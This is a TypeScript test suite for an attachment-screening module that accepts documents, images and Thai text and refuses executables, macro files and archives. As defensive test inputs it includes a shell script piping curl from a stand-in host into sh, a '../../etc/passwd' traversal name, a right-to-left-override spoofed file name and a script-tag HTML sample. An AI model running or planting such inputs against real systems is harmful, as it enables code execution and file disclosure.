import { fileTypeFromBuffer } from "file-type";
import { describe, expect, it } from "vitest";
import { acceptedTypes, classifyContent, readCompoundFileDirectory, storedFileName, type AcceptedType, type ContentClassification } from "../../../app/attachments/attachment-rules";
import { createZip, minimalDocx } from "../../support/zip";

/**
 * A Compound File (the container of .doc, .xls, .ppt and .msi) with the given entry names: one FAT
 * sector, then as many directory sectors as the names need, chained through the FAT.
 */
function compoundFile(names: readonly string[], rootClassId: readonly number[] = []): Buffer {
  const sectorSize = 512;
  const entries = ["Root Entry", ...names];
  const directorySectors = Math.ceil(entries.length / 4);
  const file = Buffer.alloc(sectorSize * (2 + directorySectors));
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file, 0);
  file.writeUInt16LE(0x3e, 0x18);
  file.writeUInt16LE(3, 0x1a);
  file.writeUInt16LE(0xfffe, 0x1c);
  file.writeUInt16LE(9, 0x1e);
  file.writeUInt16LE(6, 0x20);
  file.writeUInt32LE(1, 0x2c);
  file.writeUInt32LE(1, 0x30);
  file.writeUInt32LE(4096, 0x38);
  file.writeUInt32LE(0xfffffffe, 0x3c);
  file.writeUInt32LE(0xfffffffe, 0x44);
  for (let slot = 0; slot < 109; slot += 1) file.writeUInt32LE(slot === 0 ? 0 : 0xffffffff, 0x4c + slot * 4);
  const fat = sectorSize;
  file.fill(0xff, fat, fat + sectorSize);
  file.writeUInt32LE(0xfffffffd, fat);
  for (let sector = 1; sector <= directorySectors; sector += 1) file.writeUInt32LE(sector === directorySectors ? 0xfffffffe : sector + 1, fat + sector * 4);
  entries.forEach((name, index) => {
    const entry = sectorSize * 2 + index * 128;
    file.write(name, entry, "utf16le");
    file.writeUInt16LE((name.length + 1) * 2, entry + 0x40);
    file[entry + 0x42] = index === 0 ? 5 : 2;
    file.writeUInt32LE(0xffffffff, entry + 0x44);
    file.writeUInt32LE(0xffffffff, entry + 0x48);
    file.writeUInt32LE(0xffffffff, entry + 0x4c);
    if (index === 0) Buffer.from(rootClassId).copy(file, entry + 0x50);
  });
  return file;
}

const installerClassId = [0x84, 0x10, 0x0c, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46];
const thaiText = "เรียน ผู้อำนวยการ ขอร้องเรียนเรื่องการจัดซื้อจัดจ้าง\r\nวันที่ ๑ มกราคม ๒๕๖๙\n";
/** "สวัสดี" in TIS-620, as old Thai Windows editors saved it. */
const tis620Hello = [0xca, 0xc7, 0xd1, 0xca, 0xb4, 0xd5];

const png = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0];
const jpeg = [0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0];

const accepted = (mediaType: string, extension: string) => ({ accepted: expect.objectContaining({ mediaType, extension }) as AcceptedType });
const refused = (reason: "executable" | "archive" | "unsupported" | "empty") => ({ refused: reason });

const examples: Array<[string, Uint8Array, ContentClassification]> = [
  ["a PDF", Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "latin1"), accepted("application/pdf", "pdf")],
  ["a PNG", Buffer.from(png), accepted("image/png", "png")],
  ["a JPEG", Buffer.from(jpeg), accepted("image/jpeg", "jpg")],
  ["a Windows program (MZ)", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126)]), refused("executable")],
  ["a DOS program too short for file-type", Buffer.from("MZ"), refused("executable")],
  ["a Linux program (ELF)", Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]), refused("executable")],
  ["a macOS program (Mach-O, 64-bit)", Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(24)]), refused("executable")],
  ["a macOS universal program or Java class", Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), Buffer.alloc(24)]), refused("executable")],
  ["a shell script", Buffer.from("#!/bin/sh\ncurl http://example.invalid | sh\n"), refused("executable")],
  ["a Python script", Buffer.from("#!/usr/bin/env python3\nprint('hi')\n"), refused("executable")],
  ["a ZIP archive", createZip([{ name: "notes.txt", content: "hello" }]), refused("archive")],
  ["a RAR archive", Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00, 0, 0, 0, 0]), refused("archive")],
  ["a 7-Zip archive", Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 0, 0, 0, 0]), refused("archive")],
  ["a gzip file", Buffer.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 0, 0]), refused("archive")],
  ["an empty file", Buffer.alloc(0), refused("empty")],
  ["Thai text in UTF-8", Buffer.from(thaiText), accepted("text/plain; charset=utf-8", "txt")],
  ["UTF-8 text with a byte-order mark", Buffer.from(`\ufeff${thaiText}`), accepted("text/plain; charset=utf-8", "txt")],
  ["Thai text in TIS-620 / Windows-874", Buffer.from([...Buffer.from("Subject: "), ...tis620Hello, 0x0d, 0x0a]), accepted("text/plain; charset=windows-874", "txt")],
  ["HTML, which is kept as text and never rendered", Buffer.from("<html><script>alert(1)</script></html>"), accepted("text/plain; charset=utf-8", "txt")],
  ["XML, which file-type names but is text", Buffer.from('<?xml version="1.0"?><note>ทดสอบ</note>'), accepted("text/plain; charset=utf-8", "txt")],
  ["UTF-16 text (NUL bytes)", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("hello", "utf16le")]), refused("unsupported")],
  ["text with a NUL byte", Buffer.from("hello\u0000world"), refused("unsupported")],
  ["text with other control characters", Buffer.from("hello\u0007world"), refused("unsupported")],
  ["bytes that are neither UTF-8 nor Thai", Buffer.from([0x41, 0x81, 0x8d, 0x41]), refused("unsupported")],
  ["a PostScript file", Buffer.from("%!PS-Adobe-3.0\n"), refused("unsupported")],
  ["a Word document (DOCX)", minimalDocx(), accepted("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx")],
  [
    "a macro-enabled Word document (DOCM)",
    createZip([
      { name: "[Content_Types].xml", content: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' },
      { name: "word/document.xml", content: "<w:document/>" },
    ]),
    refused("executable"),
  ],
  ["a Java archive", createZip([{ name: "META-INF/MANIFEST.MF", content: "Manifest-Version: 1.0\n" }, { name: "Main.class", content: "x" }]), refused("executable")],
  ["an OpenDocument text", createZip([{ name: "mimetype", content: "application/vnd.oasis.opendocument.text" }, { name: "content.xml", content: "<office:document-content/>" }]), accepted("application/vnd.oasis.opendocument.text", "odt")],
  ["a Word 97–2003 document", compoundFile(["WordDocument", "1Table", "\u0005SummaryInformation"]), accepted("application/msword", "doc")],
  ["an Excel 97–2003 workbook", compoundFile(["Workbook", "\u0005SummaryInformation"]), accepted("application/vnd.ms-excel", "xls")],
  ["a PowerPoint 97–2003 presentation", compoundFile(["PowerPoint Document", "Current User"]), accepted("application/vnd.ms-powerpoint", "ppt")],
  ["a Word 97–2003 document with macros", compoundFile(["WordDocument", "1Table", "Macros", "VBA", "_VBA_PROJECT"]), refused("executable")],
  ["an Excel 97–2003 workbook with macros", compoundFile(["Workbook", "_VBA_PROJECT_CUR"]), refused("executable")],
  ["a Windows Installer package", compoundFile(["\u4840\u3f3f\u4577"], installerClassId), refused("executable")],
  ["some other Compound File", compoundFile(["__substg1.0_0037001F"]), refused("unsupported")],
  ["a Word document whose stream is in the third directory sector", compoundFile(["a", "b", "c", "d", "e", "f", "g", "h", "WordDocument"]), accepted("application/msword", "doc")],
];

describe("classifying evidence by its content", () => {
  it.each(examples)("%s", async (_name, bytes, expected) => {
    const detected = bytes.length > 0 ? await fileTypeFromBuffer(bytes) : undefined;
    expect(classifyContent(detected, bytes)).toEqual(expected);
  });

  it("refuses a program file-type did not recognise, whatever it is called", () => {
    expect(classifyContent(undefined, Buffer.from("#!/bin/bash\n"))).toEqual(refused("executable"));
    expect(classifyContent({ ext: "pdf", mime: "application/pdf" }, Buffer.from("MZ%PDF"))).toEqual(refused("executable"));
  });

  it("refuses a Compound File cut short instead of reading past its end", () => {
    const whole = compoundFile(["a", "b", "c", "d", "e", "WordDocument"]);
    expect(readCompoundFileDirectory(whole)?.names.has("WordDocument")).toBe(true);
    expect(classifyContent({ ext: "cfb", mime: "application/x-cfb" }, whole.subarray(0, 512 * 3))).toEqual(refused("unsupported"));
  });

  it("stops at a directory chain that loops back on itself", () => {
    const looped = compoundFile(["a", "b", "c", "d", "e", "f", "g", "h", "i"]);
    looped.writeUInt32LE(1, 512 + 3 * 4); // the last directory sector points at the first
    expect(readCompoundFileDirectory(looped)?.names.has("i")).toBe(true);
  });
});

describe("the accepted types", () => {
  it("cover documents, images, audio and video, each listed once", () => {
    const mediaTypes = acceptedTypes.map((type) => type.mediaType);
    for (const expected of ["application/pdf", "application/msword", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "application/vnd.oasis.opendocument.spreadsheet", "text/plain; charset=utf-8", "image/jpeg", "image/png", "image/tiff", "audio/mpeg", "audio/mp4", "video/mp4", "video/quicktime"]) {
      expect(mediaTypes).toContain(expected);
    }
    expect(new Set(acceptedTypes.map((type) => type.group))).toEqual(new Set(["document", "image", "audio", "video"]));
    const keys = acceptedTypes.map((type) => `${type.mediaType} ${type.extension}`);
    expect(new Set(keys).size).toBe(keys.length);
  });

  it("never include HEIC, which the image library cannot open to remove its location", () => {
    expect(acceptedTypes.some((type) => type.mediaType.startsWith("image/hei"))).toBe(false);
  });
});

describe("the stored file name", () => {
  const jpegType = acceptedTypes.find((type) => type.mediaType === "image/jpeg")!;
  const pdfType = acceptedTypes.find((type) => type.mediaType === "application/pdf")!;
  const textType = acceptedTypes.find((type) => type.mediaType === "text/plain; charset=utf-8")!;
  const tiffType = acceptedTypes.find((type) => type.mediaType === "image/tiff")!;

  it.each([
    ["keeps a name that matches the content", "สัญญาจ้าง.pdf", pdfType, "สัญญาจ้าง.pdf"],
    ["keeps the case of a matching extension", "IMG_0001.JPG", jpegType, "IMG_0001.JPG"],
    ["accepts any alias of the type", "scan.tiff", tiffType, "scan.tiff"],
    ["drops the folders of a Windows path", "C:\\Users\\somchai\\Desktop\\photo.jpeg", jpegType, "photo.jpeg"],
    ["drops the folders of a relative path", "../../etc/passwd", textType, "passwd.txt"],
    ["adds the true extension to a misleading name", "invoice.exe", pdfType, "invoice.exe.pdf"],
    ["makes a script named as one open as text", "notes.bat", textType, "notes.bat.txt"],
    ["keeps a text extension", "list.csv", textType, "list.csv"],
    ["removes right-to-left overrides", "report\u202efdp.exe", pdfType, "reportfdp.exe.pdf"],
    ["removes control characters", "a\u0000b\u0007c.pdf", pdfType, "abc.pdf"],
    ["trims trailing dots and spaces", "photo.jpg. . ", jpegType, "photo.jpg"],
    ["names a nameless file", "", pdfType, "attachment.pdf"],
    ["names a file that is only an extension", ".pdf", pdfType, "attachment.pdf"],
  ])("%s", (_name, original, type, expected) => {
    expect(storedFileName(original, type)).toBe(expected);
  });

  it("shortens a very long name but keeps its extension", () => {
    const name = storedFileName(`${"ก".repeat(400)}.pdf`, pdfType);
    expect(name).toBe(`${"ก".repeat(180)}.pdf`);
  });
});
